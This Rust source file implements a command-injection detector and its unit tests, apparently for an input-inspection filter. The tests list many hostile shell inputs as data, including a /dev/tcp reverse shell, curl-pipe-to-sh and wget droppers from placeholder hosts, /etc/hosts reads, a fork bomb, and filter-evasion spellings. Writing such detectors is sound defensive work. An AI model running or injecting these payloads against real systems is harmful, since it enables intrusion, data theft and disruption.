//! OS command injection: a separator and a program, substitutions, redirections, and the ways to
//! spell them past a filter. A value is matched as it came and with a shell's quoting undone.

mod agents;
mod lines;
mod unquote;

use super::builds::takes_commands;
use super::detector::{Detector, Report};
use super::patterns::REACH;
use super::pipeline::is_query;
use super::plain::is_plain;
use super::prefilter::{Hints, Marks};
use super::prose::{instructs, lists_words, without_code};
use super::records::without_bars;
use super::traversal::is_served;
use super::words::Words;
use super::{Family, Part};
use crate::decode::{kind, Value};
use agents::is_client;
use lines::PATTERNS;
use memchr::memmem;
use unquote::unquote;

/// Rules that a program's name is most of, and the most that it is worth in a list of plain words.
const NAMED: [&str; 5] = [
    "command.chained",
    "command.heredoc",
    "command.options",
    "command.program",
    "command.quoted",
];
const LISTED: f32 = 0.3;

/// Words before a command from which on it may be told about.
const WORDS: usize = 3;
/// Most that a command is worth then: just enough to refuse. The model has the last word.
const TOLD: f32 = 0.5;

/// The detector of this family.
pub struct CommandInjection;

impl Detector for CommandInjection {
    fn family(&self) -> Family {
        Family::CommandInjection
    }

    fn wants(&self, hints: &Hints) -> bool {
        let odd = hints.seen.any & (kind::BRACE | kind::OPEN) != 0;
        hints.words.contains(Words::SHELL)
            || hints.has(Marks::TEMPLATE) && odd
            || hints.has(Marks::SHELL)
    }

    /// A text is taken apart as prose and as a shell reads it.
    fn steps(&self, bytes: usize) -> usize {
        28 + bytes.min(REACH)
    }

    fn judge(&self, value: &Value<'_>, report: &mut Report<'_>) {
        let read = &value.bytes[..value.bytes.len().min(REACH)];
        report.skip(value.bytes.len() - read.len());
        let value = &Value {
            bytes: read,
            ..*value
        };
        if is_client(value) {
            return;
        }
        if takes_commands(value) || is_query(value.bytes) {
            report.doubt(&["command."], LISTED);
        } else if is_plain(value.bytes) || lists_words(value.bytes) || instructs(value.bytes) {
            report.doubt(&NAMED, LISTED);
        } else if is_served(value) {
            report.doubt(&["command.binary"], LISTED);
        } else if matches_files(value.bytes) {
            report.doubt(&["command.glob"], LISTED);
        } else if is_jquery(value.bytes) {
            report.doubt(&["command.substitution"], LISTED);
        } else if value.part != Part::Query && is_told(value.bytes) {
            report.doubt(&["command."], TOLD);
        }
        let records = without_bars(value.bytes);
        let text = records.as_deref().unwrap_or(value.bytes);
        let prose = without_code(value.part, text);
        let text = prose.as_deref().unwrap_or(text);
        PATTERNS.judge(value, text, report);
        if let Some(plain) = unquote(text) {
            PATTERNS.judge(value, &plain, report);
        }
    }
}

/// Tells a pattern for files below some folder, `bin/**/*`, which runs nothing where it stands alone.
fn matches_files(text: &[u8]) -> bool {
    let part = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'*' | b'.' | b'-' | b'_');
    let word = text.split(|b| *b == b'/').next().unwrap_or_default();
    let named = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
    !word.is_empty() && word.iter().all(named) && text.iter().all(part)
}

/// Tells a script of a page: all that is substituted is one of its own objects.
fn is_jquery(text: &[u8]) -> bool {
    let mut substituted = memmem::find_iter(text, b"$(").peekable();
    substituted.peek().is_some()
        && substituted.all(|at| {
            let inside = &text[at + 2..];
            [
                &b"document)"[..],
                b"this)",
                b"window)",
                b"'",
                b"\"",
                b"function",
            ]
            .iter()
            .any(|own| inside.starts_with(own))
        })
}

/// Tells whether words stand before what a shell would read: a command in a sentence may be told
/// about, while a break follows what an application expects.
fn is_told(text: &[u8]) -> bool {
    let words = text.split(|b| *b == b' ');
    let plain = |word: &&[u8]| !word.is_empty() && word.iter().all(u8::is_ascii_alphabetic);
    words.take_while(plain).take(WORDS).count() == WORDS
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::{patterns, testing::score, testing::score_at};

    #[test]
    fn commands_are_found() {
        patterns::compiles(&PATTERNS);
        for text in [
            "; cat /etc/hosts",
            "|id",
            "\\nid|",
            "x && whoami",
            "a;id|",
            "$(curl http://a.example/x)",
            "`uname -a`",
            "() { :;}; /bin/sh -c 'sleep 6'",
            "& ping -c 4 127.0.0.1",
            "';w\"ge\"t http://a.example/x'",
            "x;c\\at${IFS}/tmp/x",
            "| net user x y /add",
            "; sleep 10",
            "{cat,/etc/hosts}",
            "/bin/c?t /e??/h??ts",
            "%COMSPEC% /c dir",
            "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
            "\" || whoami",
            "ping;-w;10000;-n;1;192.0.2.1",
            "\"|ping,-n,1,192.0.2.1|x",
            "x;cu$@rl a.example",
            "c$-at+/et$-c/x",
            "CMD=$'id';$CMD",
            "/bi[n]/bash",
            ":(){:|:&};:",
            "x;perf --version",
            ";expr 3 + 4  #",
            "{,ip,a}",
            "|| dir|c:\\",
            "time curl a.example",
            "nohup ifconfig",
            "c=t;b=a;a=c;$a$b$c /x",
            "p=adduse[r];$p x",
            "{l,-lh}s",
            "expr 12 + 30",
            "alias q=curl",
            "%ipconfig%",
            "!%tasklist",
            ";ls\\n",
            "'\\n/bin/cat /x\\n'",
            "a\\n\\033[2Kwget a.example/x\\`id\\`",
            "FOR %G IN (Sun Mon Tue) DO echo %G",
            "IF EXIST data.xls echo x",
            "if /i a==b foo",
            ";$a cat x.txt",
            "ti''me sh -c id",
            "if not \"%1\" == \"\" (",
            "8.8.8.8\nid",
            "a.example\r\nid\r\n",
            "x;eval id",
            "x;/usr/b?n/i?",
            "x;/*/b*n/i[d]",
            "x;busybox id",
            "x; env A=b wget a.example/x",
            "x;kubectl get secrets",
            "x;docker ps",
            "--upload-pack=touch /tmp/x",
            "node > /tmp/x",
            "A1|B|C|D|E|F|G|id /x",
            "A1|B|C|D|E|F|G;id|",
            "A1|B|C|D|E|F|curl a.example/x",
            "A1|B|C|D|E|F\nwget a.example -O x",
            "A1|B|C|D|E|F&&wget a.example/x",
            "8.8.8.8&lt;curl http://a.example/x",
            "8.8.8.8&gt;id",
            "x&copy;whoami",
            "&lt;p&gt;x&lt;/p&gt;;id /x",
            "up{job=~\"a|b\"};id /x",
            "up{job=~\"(a|b)\"};id /x",
            "up{job=~\"(a|b);id /x\"}",
            "{{ $v | printf \"%d\" }};id /x",
            "{{ $v }}|id",
            "\"|exec /x",
            "x$(id).a.example",
            "a;w\\ho\\am\\i",
            "a & w^h^o^a^m^i",
            "x|\\c\\u\\r\\l a.example",
            "x;cat</etc/hosts",
            "x$(printf '\\151')",
            "x; nc 192.0.2.1 80",
            "Type 'c:\\x.txt' and more words",
            "type '/x' or more of words",
            "Cat '/etc/hosts' or more of words",
            "[x|cat /x|y]",
            "/usr/**/id",
            "x;bin/**/id",
            "../**/b?n/id",
            "$x{cat,/etc/hosts}",
            "x;{id,-u}",
        ] {
            assert!(score(&CommandInjection, text) >= 0.5, "{text}");
        }
    }

    #[test]
    fn code_in_prose_hides_nothing_else() {
        for text in [
            "```sh id\n```;lsof -p 1 | wc -l",
            "```\n8.8.8.8;curl http://a.example/x|sh",
            "8.8.8.8|id|\n| Name |",
            "Use `ls`, then; cat /etc/hosts",
            "8.8.8.8 `curl a.example|sh`",
            "please show`id`",
        ] {
            let found = score_at(&CommandInjection, Part::Json, b"host", text);
            assert!(found >= 0.5, "{text}");
        }
    }

    #[test]
    fn builds_send_commands() {
        let json = |name: &'static str, text: &str| {
            score_at(&CommandInjection, Part::Json, name.as_bytes(), text)
        };
        for (name, text) in [
            ("spec.containers.args", "echo hello; sleep 3600"),
            ("script", "cd ../.. && npm ci && npm run build"),
            ("scripts.clean", "rm -rf dist"),
            ("run", "curl -sSf https://sh.a.example | sh -s -- -y"),
            (
                "command",
                "wget http://10.0.0.5:8080/app.tgz && tar xzf app.tgz",
            ),
            (
                "user_data",
                "curl -s http://169.254.169.254/latest/meta-data/instance-id | tee id",
            ),
            ("command", "/usr/bin/backup.sh > /var/log/backup.log 2>&1"),
            ("env.SHELL", "/bin/bash"),
            ("config.smartctl_location", "/usr/sbin/smartctl"),
            ("tasks.shell", "/usr/bin/mongo --port 27017 /tmp/init.js"),
            (
                "content",
                "#!/bin/bash\napt-get update\napt-get install -y nginx\n",
            ),
        ] {
            assert!(json(name, text) < 0.5, "{text}");
        }
        for (name, text) in [
            ("command", "x; whoami"),
            (
                "command",
                "wget http://192.0.2.1/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
            ),
            ("script", "curl -s http://192.0.2.1:8080/x | sh"),
            ("cmd", "x; sleep 3600"),
            ("script", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"),
            ("host", "8.8.8.8; sleep 3600"),
            ("note", "/bin/bash -c id"),
            ("note", "/usr/sbin/x;id"),
            ("shell", "x; whoami"),
            ("host", "#!bin/ \n8.8.8.8;curl http://a.example/x|sh"),
            ("host", "#!/x bin/\n8.8.8.8;curl http://a.example/x|sh"),
            ("host", "#!/\ncurl http://a.example/x|sh"),
            ("host", "#!/bin/x;curl http://a.example/x|sh"),
        ] {
            assert!(json(name, text) >= 0.5, "{text}");
        }
    }

    #[test]
    fn commands_in_sentences_say_less() {
        for text in [
            "Run the tests || bash -c x",
            "please have a look; curl http://a.example/x | sh",
        ] {
            let told = score_at(&CommandInjection, Part::Json, b"note", text);
            assert!((0.5..0.6).contains(&told), "{text}: {told}");
            assert!(score(&CommandInjection, text) > 0.6, "{text}");
        }
        let text = "x y || bash -c x";
        assert!(score_at(&CommandInjection, Part::Json, b"note", text) > 0.6);
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "Tom & Jerry; find more at the host",
            "call me; or set a date and time | thanks",
            "R&D, black & white",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            "text/html; charset=utf-8",
            "price > 3 | sort by date",
            "a=1; b=2; id=5",
            "find shoes",
            "function f() { return 1; }",
            "who is the host; more or less",
            "US$-denominated; A$AP",
            "form-data; name=x",
            "a - b; c - d",
            "Ke$ha & friends",
            "[a]/[b]/c",
            "rmdir and del",
            "time for a break",
            "if %d items exist",
            "x{a,b}",
            "alias of a friend",
            "100% curl",
            "$(document).ready(f)",
            "index=web status=500 | stats count by host | head 10",
            "version 2\nid card",
            "docker; kubectl",
            "x; env A=b",
            "a;/* note */",
            "text/html;/x?q=1",
            "=IF(A1>5;\"yes\";\"no\")",
            "(cat|dog|sh)$",
            "<p>&copy; 2024</p>",
            "node >= 18.0",
            "php <=8.3",
            "MSH|^~\\&|LAB|W|EHR|ID|202401||ORU^R01|7|P|2.5\nPID|1||9^^^H||DOE^J||1970|F\nOBX|1|TX|W||Left knee; no find",
            "H1|20240101|SH|ID|W|EUR|1200|DE",
            "a; b\\n",
            "&lt;p&gt;Source text&lt;/p&gt;",
            "rm = room; nc = no change; ls = last stop",
            "${var} vs $(var) vs {{var}}",
            "$(Build.SourcesDirectory)",
            "run `npm test`; then `git push` & wait",
            "<p>one & more</p>",
            "2 & a^b^c",
            "C:\\docs\\old\\text; D:\\notes\\more text",
            "sum(rate(a_total{verb!~\"(?:CONNECT|WATCH|PROXY)\"}[5m])) > 1",
            "sum by (le) (rate(a_total{job=\"a\",verb!~\"proxy|attach|log|exec\"}[5m])) > 0",
            "Type 'S' or '/' to search",
            "[N|W|R]",
            "bin/**/*",
            "{posts{nodes{id,title,date}}}",
        ] {
            assert!(score(&CommandInjection, text) < 0.5, "{text}");
        }
    }

    #[test]
    fn texts_tell_about_commands() {
        for text in [
            "fix: run `rm -rf node_modules && npm i` before build",
            "Use `ps aux | grep node`, then `kill -9 <pid>`.",
            "<<< {{ content }} >>>",
            "Only {{ $value | printf \"%.1f\" }}% of {{ $labels.job }} are healthy (threshold: 75%)",
            "Run `ls -la` in the folder and `cat` the file; then type exit and find your way home",
            "it said \\n or \\033[0m `id`, and so on for many more words",
            "```sh\nlsof -p 1 | wc -l\n```\nshows how many are open",
            "| Name | Type |\n| --- | --- |\n| host | id |\n",
        ] {
            let score = score_at(&CommandInjection, Part::Json, b"note", text);
            assert!(score < 0.5, "{text}");
        }
    }
}
